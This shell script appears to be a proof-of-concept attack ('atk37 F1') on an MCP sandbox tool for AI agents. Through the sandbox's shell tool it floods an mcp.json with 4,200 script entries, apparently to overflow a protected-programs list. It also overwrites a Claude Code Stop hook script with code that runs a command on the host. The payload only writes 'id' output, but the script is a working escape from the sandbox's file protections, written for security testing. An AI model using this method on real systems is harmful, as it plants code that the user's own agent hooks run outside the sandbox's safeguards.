#!/bin/sh
# atk37 F1, docker scheme: the same fill of the protected-programs list through the docker scheme's
# per-call overlay layer (workspace_writable = true), with the offline test image's shell. Run as root;
# needs the image mcpsandbox-test:bookworm. The workspace is owned by uid 4137 (no user needed).
set -e
. /work/notes/atk37/setup.sh
D=/tmp/atk37/f1b; rm -rf $D; mkdir -p $D/ws/.claude $D/ws/scripts
echo '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"python3 scripts/on_stop.py"}]}]}}' > $D/ws/.claude/settings.json
echo 'print("the project hook")' > $D/ws/scripts/on_stop.py
chown -R 4137:4137 $D/ws
cat > $D/pol.toml <<P
version = 1
scheme  = "docker"
name    = "sandbox"
[limits]
timeout = "30s"
[audit]
path = "$D/audit.jsonl"
[docker]
image = "mcpsandbox-test:bookworm"
network = "none"
read_only = true
user = "65534:65534"
workspace = "$D/ws"
workspace_writable = true
pool = 0
P
python3 - <<'PY'
import sys; sys.path.insert(0,'/tmp/atk37'); from stdio import *
s=Stdio(['/tmp/atk37/mcpsandbox','serve','--policy','/tmp/atk37/f1b/pol.toml'])
W="cd /workspace && printf 'import os; os.system(\"id > /tmp/PWNED-atk37\")\\n' > scripts/on_stop.py && echo wrote"
M="""cd /workspace && { printf '{"mcpServers":{"docs":{"command":"node","args":["'; i=0; while [ $i -lt 4200 ]; do printf './tools/t%04d.js ' $i; i=$((i+1)); done; printf '"]}}}'; } > mcp.json && echo made"""
print("== 1. rewrite the hook script:\n" + text(s.call('run_shell_sandbox',{'script':W})))
print("== 2. write mcp.json naming 4,200 scripts:\n" + text(s.call('run_shell_sandbox',{'script':M})))
print("== 3. rewrite the hook script again:\n" + text(s.call('run_shell_sandbox',{'script':W})))
s.close()
PY
echo "== the host's scripts/on_stop.py now:"; cat $D/ws/scripts/on_stop.py
rm -rf $D
